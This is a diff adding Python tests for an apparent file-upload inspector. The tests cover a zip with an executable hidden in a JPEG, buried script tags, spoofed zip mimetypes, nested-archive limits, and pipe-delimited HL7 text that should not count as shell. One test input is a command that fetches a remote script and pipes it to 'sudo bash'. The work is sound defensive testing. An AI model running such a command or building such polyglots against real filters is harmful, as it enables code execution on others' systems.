@@ -72,3 +72,37 @@ def test_markup_deep_in_a_large_text_file_is_found() -> None:
     """The whole file is read: a script tag after 1 MB of text still makes it a web page."""
     data = b"line of notes\n" * 80_000 + b"<script>alert(1)</script>\n"
     assert inspect_content(data).active == "web-page-or-svg"
+
+
+def test_a_zip_in_the_middle_of_a_photo_is_found() -> None:
+    """A zip inside a JPEG, followed by more than zip tools' 64 KiB search window."""
+    inner = file_samples.zipped({"run.exe": file_samples.MZ_EXE})
+    data = file_samples.photo_jpeg() + inner + b"\x00" * 70_000
+    assert inspect_content(data).active == "zip-inside-another-file"
+
+
+def test_pipe_delimited_records_are_not_scripts() -> None:
+    """HL7-style pipe-delimited text (initials "SH" in a field) is text, not a shell pipe."""
+    data = b"MSH|^~\\&|WARD|SH|LAB\nPID|1||12345||SH|Doe^Jane\n"
+    assert decide_file(POLICY, data).allowed
+    assert inspect_content(b"curl -s https://x.invalid/i | sudo bash\n").active == "script"
+
+
+def test_a_zip_cannot_claim_a_type_through_its_mimetype_entry() -> None:
+    """Only OpenDocument types are taken from a zip's `mimetype` entry."""
+    fake = file_samples.zipped({"mimetype": b"image/png", "a.txt": b"hello"})
+    assert inspect_content(fake).mime == "application/zip"
+    odt = file_samples.zipped(
+        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
+    )
+    assert inspect_content(odt).mime == "application/vnd.oasis.opendocument.text"
+
+
+def test_nested_zips_have_a_budget() -> None:
+    """Zips inside zips are inspected up to three levels; deeper is refused."""
+    deep = file_samples.zipped({"a.txt": b"x"})
+    for _ in range(3):
+        deep = file_samples.zipped({"inner.zip": deep})
+    assert inspect_content(deep).active == "archive-holds-active-content"
+    shallow = file_samples.zipped({"inner.zip": file_samples.zipped({"a.txt": b"x"})})
+    assert inspect_content(shallow).active is None
